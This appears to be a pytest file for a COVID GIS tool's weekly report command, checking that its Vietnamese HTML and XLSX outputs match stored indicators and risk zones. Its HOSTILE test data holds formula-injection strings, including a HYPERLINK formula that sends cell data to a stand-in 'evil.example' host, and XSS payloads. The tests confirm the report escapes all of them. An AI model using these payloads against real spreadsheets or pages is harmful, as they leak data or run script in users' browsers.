"""`covidgis report weekly`: HTML and XLSX for a week of sample events, whose numbers are the stored indicators."""

import base64
import datetime as dt
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from conftest import ROOT, run_cli
from sqlalchemy import text

from gis.risk.ruleset import load_ruleset
from gis.risk.settings import RiskSettings
from gis.risk.zones import compute_zones
from gis.stats.indicators import compute_indicators
from gis.stats.settings import StatsSettings

SUNDAY, LAST_SUNDAY = dt.date(2021, 9, 5), dt.date(2021, 8, 29)
TAN_PHONG, BIEN_HOA, FAR_COMMUNE = "25996", "731", "26008"
ARTIFACTS = ROOT / "test-artifacts" / "reports"
LOCATED = "batch_id, row_hash, commune_code, area_code"
# Names as a hostile source could write them (boundary files, feeds), and the text the XLSX must hold: formulas,
# signs and @ stay literal text, control characters XML cannot hold become U+FFFD (TAB and CR are kept).
HOSTILE = {
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")': None,
    "+1": None,
    "-2": None,
    "@SUM(A1:A9)": None,
    "=1+2": None,
    "\tTab ở đầu": None,
    "\rCR ở đầu": None,
    "Ấp\x01 Một\x0b\x1f": "Ấp\ufffd Một\ufffd\ufffd",
    '<img src=x onerror="window.__xss=1">': None,
    "</td><script>window.__xss=2</script>": None,
}


def xlsx_text(name: str) -> str:
    """The text a name has in the workbook."""
    return HOSTILE.get(name) or name


CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-quic",
    "--no-first-run",
]


def insert_events(engine):
    """An outbreak in Tân Phong in the week of 30 Aug (community) with cases found in quarantine elsewhere,
    tests in Biên Hòa and vaccinations of three age groups."""
    with engine.connect() as conn:
        hamlets = (
            conn.execute(text("SELECT code FROM pub.areas WHERE parent_code = :c ORDER BY code"), {"c": TAN_PHONG})
            .scalars()
            .all()
        )
    cases = [
        (f"C{i}", SUNDAY - dt.timedelta(days=i % 7), "community", hamlets[i % len(hamlets)], TAN_PHONG)
        for i in range(90)
    ]
    cases += [(f"Q{i}", SUNDAY - dt.timedelta(days=i % 5), "quarantine", FAR_COMMUNE, FAR_COMMUNE) for i in range(7)]
    cases += [(f"L{i}", LAST_SUNDAY - dt.timedelta(days=i), "lockdown", FAR_COMMUNE, FAR_COMMUNE) for i in range(3)]
    tests = [
        (
            f"T{i}",
            f"{SUNDAY - dt.timedelta(days=i % 7)} 09:00+07",
            "positive" if i % 8 == 0 else "negative",
            hamlets[i % len(hamlets)],
            TAN_PHONG,
        )
        for i in range(40)
    ]
    doses = [
        (f"V{i}", f"P{i}", 1940 + i % 70, 1 + i % 2, SUNDAY - dt.timedelta(days=20), hamlets[0], TAN_PHONG)
        for i in range(300)
    ]
    with engine.begin() as conn:
        conn.execute(
            text(
                f"INSERT INTO events.cases (case_id, person_key, detected_on, detection_setting, "
                f"source_known, {LOCATED}) VALUES (:id, 'k' || :id, :d, :s, true, 0, 'h', :c, :a)"
            ),
            [{"id": i, "d": d, "s": s, "a": a, "c": c} for i, d, s, a, c in cases],
        )
        conn.execute(
            text(
                f"INSERT INTO events.tests (sample_id, person_key, collected_at, test_type, result, "
                f"{LOCATED}) VALUES (:s, 'k' || :s, :at, 'rt_pcr', :r, 0, 'h', :c, :a)"
            ),
            [{"s": s, "at": at, "r": r, "a": a, "c": c} for s, at, r, a, c in tests],
        )
        conn.execute(
            text(
                f"INSERT INTO events.vaccinations (dose_id, person_key, birth_year, dose_number, vaccine, "
                f"vaccinated_on, {LOCATED}) VALUES (:d, :p, :b, :n, 'AZ', :on, 0, 'h', :c, :a)"
            ),
            [{"d": d, "p": p, "b": b, "n": n, "on": on, "a": a, "c": c} for d, p, b, n, on, a, c in doses],
        )


def hostile_names(engine) -> dict[str, str]:
    """Give the hostile names to every district but Biên Hòa and to Tân Phong's hamlets (which turn red);
    returns code → name."""
    with engine.connect() as conn:
        districts = (
            conn.execute(
                text("SELECT code FROM admin.area WHERE level = 2 AND code <> :b ORDER BY code"), {"b": BIEN_HOA}
            )
            .scalars()
            .all()
        )
        hamlets = (
            conn.execute(text("SELECT code FROM admin.area WHERE parent_code = :c ORDER BY code"), {"c": TAN_PHONG})
            .scalars()
            .all()
        )
    names = list(HOSTILE)
    assert len(districts) >= len(names)
    renamed = {code: names[i % len(names)] for codes in (districts, hamlets) for i, code in enumerate(codes)}
    with engine.begin() as conn:
        conn.execute(
            text("UPDATE admin.area SET name = :n WHERE code = :c"), [{"c": c, "n": n} for c, n in renamed.items()]
        )
    return renamed


@pytest.fixture(scope="module")
def report(engine, db_url, tmp_path_factory):
    insert_events(engine)
    hostile_names(engine)
    days = [LAST_SUNDAY, SUNDAY]
    compute_indicators(engine, days, StatsSettings())
    compute_zones(engine, days, load_ruleset("vn-4800-2021"), RiskSettings())
    out = tmp_path_factory.mktemp("weekly")
    summary = json.loads(
        run_cli("report", "weekly", "--week", "2021-W35", "--out", str(out), "--json", database_url=db_url).stdout
    )
    # The summary (gis/reports/render.py WeeklySummary) names what was written, with the week's last day of data.
    assert (summary["week"], summary["day"], summary["ruleset"]) == ("2021-W35", str(SUNDAY), "vn-4800-2021")
    assert [Path(summary[k]).name for k in ("html", "xlsx", "png")] == [
        "bao-cao-tuan-2021-W35.html",
        "bao-cao-tuan-2021-W35.xlsx",
        "ban-do-2021-W35.png",
    ]
    assert summary["notes"] == []
    return out


def indicators(engine, day):
    with engine.connect() as conn:
        rows = (
            conn.execute(text("SELECT * FROM stats.indicator WHERE day = :d AND admin_level IN (1, 2)"), {"d": day})
            .mappings()
            .all()
        )
    return {r["area_code"]: r for r in rows}


def sheet_rows(path: Path, name: str) -> list[dict]:
    ws = openpyxl.load_workbook(path)[name]
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], r)) for r in rows[1:]]


def ratio(num, den):
    return None if not den else num / den


def test_writes_html_xlsx_and_map(report):
    names = sorted(p.name for p in report.iterdir())
    assert names == ["ban-do-2021-W35.png", "bao-cao-tuan-2021-W35.html", "bao-cao-tuan-2021-W35.xlsx"]
    assert (report / "ban-do-2021-W35.png").read_bytes().startswith(b"\x89PNG")


def test_district_numbers_are_the_stored_indicators(report, engine):
    stored = indicators(engine, SUNDAY)
    rows = sheet_rows(report / "bao-cao-tuan-2021-W35.xlsx", "Theo huyện")
    assert len(rows) == 12  # 11 districts and the province
    assert rows[-1]["Mã"] == "75"
    for row in rows:
        ind = stored[row["Mã"]]
        assert row["Ca mới cộng đồng"] == ind["community_cases_7d"]
        assert row["Ca mới trong khu cách ly, phong tỏa"] == ind["cases_7d"] - ind["community_cases_7d"]
        assert row["Tổng ca mới"] == ind["cases_7d"]
        assert row["Số mẫu xét nghiệm"] == ind["tests_7d"]
        assert row["Số mẫu dương tính"] == ind["positive_tests_7d"]
        assert row["Tỷ lệ dương tính"] == pytest.approx(ratio(ind["positive_tests_7d"], ind["tests_7d"]))
        for header, num, den in [
            ("Tiêm ≥1 mũi (18 tuổi trở lên)", "vaccinated_18plus_1dose", "population_18plus"),
            ("Tiêm đủ liều (50 tuổi trở lên)", "vaccinated_50plus_full", "population_50plus"),
            ("Tiêm đủ liều (65 tuổi trở lên)", "vaccinated_65plus_full", "population_65plus"),
        ]:
            assert row[header] == pytest.approx(ratio(ind[num], ind[den])), (row["Mã"], header)
    bien_hoa = next(r for r in rows if r["Mã"] == BIEN_HOA)
    # The sample events: 90 community cases in Tân Phong this week, 5 of 40 tests positive; the 7 quarantine cases
    # are in Tân Phú's commune 26008, the 3 lockdown cases of last week are outside the window.
    assert (bien_hoa["Ca mới cộng đồng"], bien_hoa["Số mẫu xét nghiệm"], bien_hoa["Số mẫu dương tính"]) == (90, 40, 5)
    assert rows[-1]["Ca mới trong khu cách ly, phong tỏa"] == 7


def test_units_per_colour_and_transitions_are_the_stored_zones(report, engine):
    with engine.connect() as conn:
        zones = conn.execute(
            text("""
            SELECT a.parent_code AS district, z.colour, count(*) AS n FROM risk.zone z
            JOIN pub.areas a ON a.code = z.area_code
            WHERE z.day = :d AND z.ruleset_id = 'vn-4800-2021' AND z.admin_level = 3
            GROUP BY 1, 2"""),
            {"d": SUNDAY},
        ).all()
        names = dict(conn.execute(text("SELECT code, name FROM pub.areas WHERE level = 2")).all())
    rows = sheet_rows(report / "bao-cao-tuan-2021-W35.xlsx", "Số đơn vị theo màu")
    by_district = {r["Huyện, thành phố"]: r for r in rows if r["Đơn vị"] == "Xã"}
    colour_header = {"green": "Cấp 1 (xanh)", "yellow": "Cấp 2 (vàng)", "orange": "Cấp 3 (cam)", "red": "Cấp 4 (đỏ)"}
    for district, colour, n in zones:
        assert by_district[xlsx_text(names[district])][colour_header[colour]] == n
    assert by_district["Thành phố Biên Hòa"]["Tăng cấp so với tuần trước"] >= 1
    moves = sheet_rows(report / "bao-cao-tuan-2021-W35.xlsx", "Chuyển màu")
    assert any(
        m["Huyện, thành phố"] == "Thành phố Biên Hòa"
        and m["Đơn vị"] == "Xã"
        and m["Tuần trước"] == "Xanh"
        and m["Tuần này"] == "Đỏ"
        for m in moves
    )


def test_units_turned_red_are_listed_with_reasons(report, engine):
    hot = sheet_rows(report / "bao-cao-tuan-2021-W35.xlsx", "Lên cam, đỏ")
    tan_phong = next(r for r in hot if r["Mã"] == TAN_PHONG)
    assert tan_phong["Đơn vị"] == "Phường Tân Phong" and tan_phong["Tuần trước"] == "Xanh"
    assert tan_phong["Tuần này"].startswith("Cấp 4")
    assert (
        "community_cases_7d_per_100k" in tan_phong["Lý do"]
        and "community_cases_7d_per_100k" in tan_phong["Chỉ số quyết định"]
    )
    assert all(r["Mã"].startswith(TAN_PHONG) for r in hot)  # nothing else changed


def test_hostile_names_are_text_cells_with_their_literal_text(report):
    path = report / "bao-cao-tuan-2021-W35.xlsx"
    book = openpyxl.load_workbook(path)
    texts: dict[str, set] = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    texts.setdefault(ws.title, set()).add(cell.value)
    # every hostile district name is a district row; the hamlets that turned red are listed under their own name
    assert {xlsx_text(n) for n in HOSTILE} <= texts["Theo huyện"]
    assert {xlsx_text(n) for n in HOSTILE} <= texts["Số đơn vị theo màu"]
    hot_names = {r["Đơn vị"] for r in sheet_rows(path, "Lên cam, đỏ")}
    assert len(hot_names & {xlsx_text(n) for n in HOSTILE}) >= 5
    with zipfile.ZipFile(path) as z:  # no formula element anywhere in the workbook
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.endswith(".xml"))
    # numbers stay numbers
    districts = book["Theo huyện"]
    header = [c.value for c in districts[1]]
    for row in districts.iter_rows(min_row=2):
        cases, positivity = row[header.index("Tổng ca mới")], row[header.index("Tỷ lệ dương tính")]
        assert cases.data_type == "n" and isinstance(cases.value, int)
        assert positivity.value is None or (positivity.data_type == "n" and isinstance(positivity.value, float))


def test_html_report_opens_in_chromium(report):
    from playwright.sync_api import sync_playwright

    html = report / "bao-cao-tuan-2021-W35.html"
    text_ = html.read_text(encoding="utf-8")
    assert '<html lang="vi">' in text_ and "Phường Tân Phong" in text_ and "Thành phố Biên Hòa" in text_
    assert "<script>window" not in text_ and "<img src=x" not in text_ and "&lt;img src=x onerror=" in text_
    assert "12,5 %" in text_  # Biên Hòa's positivity, 5 of 40, written the Vietnamese way
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        problems, outside = [], []
        page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
        page.on("pageerror", lambda e: problems.append(str(e)))
        page.on("request", lambda r: outside.append(r.url) if not r.url.startswith(("file:", "data:")) else None)
        page.goto(html.as_uri())
        assert page.title().startswith("Báo cáo tuần 2021-W35")
        assert page.evaluate("window.__xss") is None  # no hostile name ran as script
        cells = set(page.eval_on_selector_all("td", "tds => tds.map(t => t.textContent)"))
        # the page shows every hostile name as its text (HTML reads a CR as a line feed)
        assert {n.replace("\r", "\n") for n in HOSTILE} <= cells
        assert page.eval_on_selector("img.map", "i => i.complete && i.naturalWidth") > 300
        page.screenshot(path=str(ARTIFACTS / "weekly-2021-W35.png"), full_page=True)
        browser.close()
    assert problems == [] and outside == []
    png = base64.b64decode(text_.split("data:image/png;base64,")[1].split('"')[0])
    assert png == (report / "ban-do-2021-W35.png").read_bytes()


def test_a_week_without_zones_says_what_to_run(db_url, tmp_path):
    proc = run_cli("report", "weekly", "--week", "2021-W20", "--out", str(tmp_path), database_url=db_url, check=False)
    assert proc.returncode == 2
    assert "covidgis zones compute --from 2021-05-17 --to 2021-05-23" in proc.stderr
    bad = run_cli("report", "weekly", "--week", "2021-35", "--out", str(tmp_path), database_url=db_url, check=False)
    assert bad.returncode == 2 and "2021-W35" in bad.stderr


def test_tracing_section_says_no_data_without_trace(report):
    html = (report / "bao-cao-tuan-2021-W35.html").read_text(encoding="utf-8")
    assert "6. Truy vết / Tracing" in html
    section = html.split('id="truy-vet"')[1]
    assert "Không có dữ liệu / no data" in section and "<table" not in section
    ws = openpyxl.load_workbook(report / "bao-cao-tuan-2021-W35.xlsx")["Truy vết"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0] == "Loại địa điểm / Venue kind" and rows[1][0] == "Không có dữ liệu / no data"


def test_tracing_section_shows_the_weeks_trace_indicators(report, engine, db_url, tmp_path):
    """C0 (detected 5 Sep) checked in at a market on 4 Sep with three others, one of them C1 (detected 4 Sep):
    one F0 with a check-in, 3 contacts, none quarantined, one became F0; 4 visitors: not published."""
    from zoneinfo import ZoneInfo

    from gis.trace.engine import trace_cases
    from gis.trace.rules import load_trace_rules
    from gis.trace.settings import TraceSettings

    tz = ZoneInfo("Asia/Ho_Chi_Minh")
    day = SUNDAY - dt.timedelta(days=1)
    lower = dt.datetime.combine(day, dt.time(), tz)
    at = dt.datetime.combine(day, dt.time(10), tz)
    with engine.begin() as conn:
        conn.execute(
            text(
                f"CREATE TABLE IF NOT EXISTS events.checkins_{day:%Y%m%d} PARTITION OF events.checkins "
                "FOR VALUES FROM (:lo) TO (:hi)"
            ),
            {"lo": lower, "hi": lower + dt.timedelta(days=1)},
        )
        conn.execute(
            text(
                "INSERT INTO events.venues (venue_id, name, kind, geom, area_code, commune_code, batch_id, row_hash) "
                "SELECT 'RV-1', 'Chợ Tân Phong', 'market', ST_PointOnSurface(geom), code, :c, 0, 'h' "
                "FROM pub.areas WHERE code = :c"
            ),
            {"c": TAN_PHONG},
        )
        conn.execute(
            text(
                "INSERT INTO events.checkins (checkin_id, checked_in_at, person_key, venue_id, batch_id, row_hash) "
                "VALUES (:i, :t, :p, 'RV-1', 0, 'h')"
            ),
            [
                {"i": f"RCI-{i}", "t": at + dt.timedelta(minutes=5 * i), "p": p}
                for i, p in enumerate(["kC0", "kX1", "kX2", "kC1"])
            ],
        )
    traced = trace_cases(engine, load_trace_rules("vn-pccovid-2022"), TraceSettings(), cases=["C0"])
    assert (traced.cases, traced.visits, traced.contacts) == (1, 1, 3)
    out = tmp_path / "weekly"
    run_cli("report", "weekly", "--week", "2021-W35", "--out", str(out), database_url=db_url)

    rows = sheet_rows(out / "bao-cao-tuan-2021-W35.xlsx", "Truy vết")
    assert [r["Loại địa điểm / Venue kind"] for r in rows] == ["Chợ / market", "Tất cả / All"]
    every = rows[-1]
    assert (every["Số F0 / F0"], every["Tỷ lệ F0 có quét mã QR / Share of F0 with a check-in"]) == (1, 1.0)
    assert every["Số người tiếp xúc mỗi F0 / Contacts per F0"] == 3.0
    assert every["Địa điểm công bố / Locations published"] is None  # 4 visitors, below the threshold of 5
    assert (every["Người tiếp xúc / Contacts"], every["Trở thành F0 / Became F0"]) == (3, 1)
    assert every["Cách ly trong 24 giờ / Quarantined within 24 h"] == 0.0
    assert every["Tỷ lệ trở thành F0 / Yield"] == pytest.approx(1 / 3, abs=1e-4)
    assert rows[0]["Người tiếp xúc / Contacts"] == 3 and rows[0]["Số F0 / F0"] is None
    html = (out / "bao-cao-tuan-2021-W35.html").read_text(encoding="utf-8")
    section = html.split('id="truy-vet"')[1]
    assert "Không có dữ liệu" not in section and "Chợ / market" in section and "33,3 %" in section
    assert "bộ quy tắc truy vết vn-pccovid-2022" in section
